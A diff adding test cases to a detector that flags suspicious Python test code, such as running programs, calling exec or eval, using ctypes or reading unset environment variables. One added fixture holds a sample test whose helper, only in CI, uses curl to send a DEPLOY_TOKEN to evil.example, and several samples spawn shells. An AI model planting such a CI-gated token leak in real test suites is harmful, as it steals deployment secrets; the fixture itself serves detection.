@@ -77,6 +77,15 @@ def smell(body: str, arguments: str = "", decorator: str = "") -> str | None:
         "value = total(1, 1)\nassert value is not None\nassert value == 1",
         "class Thing:\n    pass\nThing.size = 1\nassert total(Thing.size, 1) == 1",
         "assert total(1, 1) == 1 or total(1, 1) == 2",
+        "import re\nassert re.compile('x').match(shop.name(total(1, 1)))",
+        "with patch('subprocess.run') as run:\n    shop.start()\nrun.assert_called_once_with(['x'])",
+        (
+            "import subprocess\nwith patch.object(subprocess, 'run'):\n    shop.start(1)\n"
+            "    subprocess.run.assert_called_once_with(['x'])"
+        ),
+        "from shop import eval\nassert eval('1') == 1",
+        "with patch.dict(os.environ, {'A': '1'}):\n    assert shop.setting() == os.environ['A']",
+        "with patch.dict('os.environ', A='1'):\n    assert shop.setting() == os.getenv('A')",
     ],
 )
 def test_smells_of__good_tests_have_none(body: str) -> None:
@@ -86,6 +95,10 @@ def test_smells_of__good_tests_have_none(body: str) -> None:
 @pytest.mark.parametrize(
     ("body", "arguments"),
     [
+        ("monkeypatch.setenv('A', '1')\nassert shop.setting() == os.environ['A']", "monkeypatch"),
+        ("monkeypatch.delenv('A', raising=False)\nshop.load()\nassert os.getenv('A') == 'x'", "monkeypatch"),
+        ("monkeypatch.setitem(os.environ, 'A', '1')\nassert shop.setting() == '1'", "monkeypatch"),
+        ("monkeypatch.setattr(os, 'getcwd', lambda: '/')\nassert shop.place() == '/'", "monkeypatch"),
         ("file = tmp_path / 'x'\nfile.write_text('x')\nassert shop.read(file) == 'x'", "tmp_path"),
         (
             "monkeypatch.chdir(tmp_path)\nPath('x').write_text('x')\nassert shop.read('x') == 'x'",
@@ -169,6 +182,35 @@ SMELLY = {
         "shop.RATE = 3\nassert total(1, 1) == 3",
         "shop.RATES['x'] = 3\nassert total(1, 1) == 3",
     ],
+    "runs a program": [
+        "import subprocess\nsubprocess.run(['ls'])\nassert total(1, 1) == 1",
+        "from subprocess import check_output as out\nassert out(['x']) == total(1, 1)",
+        "if total(1, 1) == 2:\n    os.system('x')\nassert total(1, 1) == 1",
+        "run = os.popen\nassert total(1, 1) == 1",
+        "import subprocess as s\ngetattr(s, 'run')(['x'])\nassert total(1, 1) == 1",
+        "import pty\nassert pty.spawn('x') == total(1, 1)",
+        "asyncio.run(asyncio.create_subprocess_shell('x'))\nassert total(1, 1) == 1",
+        "os.execv('x', [])\nassert total(1, 1) == 1",
+    ],
+    "runs code made of text (`exec`, `eval` or `compile`)": [
+        "exec('x = 1')\nassert total(1, 1) == 1",
+        "assert eval('1') == total(1, 1)",
+        "run = exec\nassert total(1, 1) == 1",
+        "assert compile('1', '', 'eval') != total(1, 1)",
+    ],
+    "uses `ctypes`": [
+        "import ctypes\nassert ctypes.CDLL(None) != total(1, 1)",
+        "from ctypes import CDLL\nassert CDLL(None) != total(1, 1)",
+    ],
+    "reads a variable of the environment that it has not set by `monkeypatch`": [
+        "if os.environ.get('CI'):\n    shop.deploy()\nassert total(1, 1) == 1",
+        "assert os.environ['HOME'] != total(1, 1)",
+        "assert os.getenv('HOME') != total(1, 1)",
+        "assert 'CI' not in os.environ and total(1, 1) == 1",
+        "from os import environ, getenv\nassert total(1, len(dict(environ))) > 1",
+        "assert shop.read(os.environ) == total(1, 1)",
+        "patch.dict(os.environ, A='1').start()\nassert os.environ['B'] == total(1, 1)",
+    ],
     "is skipped": [
         "pytest.skip('later')\nassert total(1, 1) == 1",
     ],
@@ -251,6 +293,40 @@ MONSTERS = {
     "classes": "    pass\nclass Test#:\n    def test_a(self): assert total(#, 1) == #",
     "literals": "    x# = [#]\n    assert x# == [#]",
 }
+
+
+DORMANT = """\
+import os
+import subprocess
+
+from shop import total
+
+
+def announce():
+    if os.environ.get("GITHUB_ACTIONS") and os.environ.get("DEPLOY_TOKEN"):
+        subprocess.run(["curl", "-d", os.environ["DEPLOY_TOKEN"], "https://evil.example"], check=False)
+
+
+def test_announced():
+    announce()
+    assert total(1, 2) == 2
+
+
+def test_handed_on():
+    for step in [announce]:
+        step()
+    assert total(1, 2) == 2
+
+
+def test_plain():
+    assert total(5, 1) == 5
+"""
+
+
+def test_smells_of__a_payload_for_another_machine_costs_those_alone_that_can_reach_it() -> None:
+    assert smells_of(DORMANT, MEMBER) == dict.fromkeys(("test_announced", "test_handed_on"), "runs a program")
+    at_import = f"import os\n\nif os.environ.get('CI'):\n    os.system('x')\n\n{DORMANT}"
+    assert smells_of(at_import, MEMBER).keys() == {"test_announced", "test_handed_on", "test_plain"}
 
 
 @pytest.mark.parametrize("monster", MONSTERS)
